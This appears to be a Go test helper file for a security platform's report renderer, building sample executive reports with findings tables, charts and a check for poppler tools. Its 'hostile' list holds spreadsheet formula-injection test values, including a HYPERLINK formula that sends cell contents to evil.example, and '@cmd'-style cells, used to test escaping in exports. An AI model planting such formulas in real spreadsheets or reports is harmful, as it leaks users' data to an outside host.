package render_test

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"testing"
	"time"

	"github.com/socplatform/soc/query-api/reporting/render"
)

var paris = mustLoad("Europe/Paris")

func mustLoad(name string) *time.Location {
	loc, err := time.LoadLocation(name)
	if err != nil {
		panic(err)
	}
	return loc
}

// hostile are text cells a scanner could put in a finding: formulas, a tab, a carriage
// return, quotes and commas, non-cp1252 text.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"+SUM(1,2)",
	"-2+3",
	"@cmd",
	"\tindented",
	"\rreturn",
	`quote " and, comma`,
	"line\nbreak",
	"Ünïcødé — 日本 ✓",
}

// openedAt is the first row's opening time: 23:30 UTC is already the next day in Paris.
var openedAt = time.Date(2026, 11, 30, 23, 30, 0, 0, time.UTC)

var findingColumns = []render.Column{
	{Name: "ID", Type: render.Text},
	{Name: "Title", Type: render.Text},
	{Name: "Severity", Type: render.Severity},
	{Name: "Asset", Type: render.Text},
	{Name: "Opened", Type: render.Date},
	{Name: "Age (days)", Type: render.Int},
	{Name: "EPSS", Type: render.Float},
}

var severities = []string{"critical", "high", "medium", "low", "info"}

// findings is a findings table of n rows; the first rows carry the hostile texts as titles.
func findings(n int) *render.Table {
	tb := &render.Table{Columns: findingColumns, Rows: make([][]any, n)}
	for i := range n {
		title := fmt.Sprintf("OpenSSL buffer overflow in X.509 name constraint checking #%d", i+1)
		if i < len(hostile) {
			title = hostile[i]
		}
		var epss any = float64(i%1000) / 1000
		if i == 1 {
			epss = nil // an empty cell
		}
		tb.Rows[i] = []any{
			fmt.Sprintf("F-%06d", i+1),
			title,
			severities[i%len(severities)],
			fmt.Sprintf("web-%03d.prod.example.com", i%250),
			openedAt.Add(-time.Duration(i) * time.Hour),
			int64(i % 400),
			epss,
		}
	}
	return tb
}

// executive is a document like the executive report: figures, three kinds of chart and a
// findings table of rows rows.
func executive(rows int) *render.Document {
	weeks := make([]string, 12)
	bySev := make([]render.Series, len(severities))
	for s := range bySev {
		bySev[s].Name = severities[s]
		bySev[s].Values = make([]float64, len(weeks))
	}
	discovered := render.Series{Name: "Discovered", Values: make([]float64, len(weeks))}
	resolved := render.Series{Name: "Resolved", Values: make([]float64, len(weeks))}
	for w := range weeks {
		weeks[w] = time.Date(2026, 9, 7+7*w, 0, 0, 0, 0, paris).Format("2006-01-02")
		for s := range bySev {
			bySev[s].Values[w] = float64((5-s)*10 + w*(s+1))
		}
		discovered.Values[w] = float64(40 + w*3)
		resolved.Values[w] = float64(30 + w*4)
	}
	return &render.Document{
		Title:       "Executive security report",
		Subtitle:    "Q4 2026, all teams",
		GeneratedAt: time.Date(2026, 12, 7, 5, 0, 0, 0, time.UTC),
		GeneratedBy: "alice@example.com",
		From:        time.Date(2026, 9, 7, 0, 0, 0, 0, paris),
		To:          time.Date(2026, 11, 30, 0, 0, 0, 0, paris),
		Location:    paris,
		Branding:    render.Branding{Organisation: "Acme Corp", Color: "#00695C", Footer: "Acme Corp - confidential"},
		Sections: []render.Section{
			{ID: "summary", Title: "Summary", Text: "Where we stand at the end of the period.", Figures: []render.Figure{
				{Label: "Open findings", Value: 1234},
				{Label: "Critical open", Value: 12, Severity: "critical"},
				{Label: "Mean time to resolve", Value: 4.5, Unit: "days"},
				{Label: "SLA compliance", Value: 97.5, Unit: "%"},
				{Label: "KEV exposure", Value: 3, Severity: "high"},
			}},
			{ID: "open_trend", Title: "Open findings by severity", Chart: &render.Chart{Kind: render.Line, X: weeks, Series: bySev, YLabel: "open findings"}},
			{ID: "flow", Title: "Discovered vs resolved", Chart: &render.Chart{Kind: render.Bars, X: weeks, Series: []render.Series{discovered, resolved}}},
			{ID: "open_stack", Title: "Open findings, stacked", Chart: &render.Chart{Kind: render.StackedBars, X: weeks, Series: bySev}},
			{ID: "findings", Title: "Findings", Table: findings(rows)},
		},
	}
}

// requireTool returns the path of a poppler tool: the test skips without it, and fails under
// CI (CI=true or SOC_REQUIRE_SERVERS=1), where deploy/dev/tools.sh installs it.
func requireTool(t testing.TB, name string) string {
	t.Helper()
	p, err := exec.LookPath(name)
	if err != nil {
		if os.Getenv("CI") == "true" || os.Getenv("SOC_REQUIRE_SERVERS") == "1" {
			t.Fatalf("%s is required under CI: deploy/dev/tools.sh up installs poppler-utils", name)
		}
		t.Skipf("%s is not installed (Debian poppler-utils; deploy/dev/tools.sh up)", name)
	}
	return p
}

// renderBytes renders d with r.
func renderBytes(t testing.TB, r render.Renderer, d *render.Document) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := r.Render(&buf, d); err != nil {
		t.Fatalf("render %s: %v", r.Format(), err)
	}
	return buf.Bytes()
}
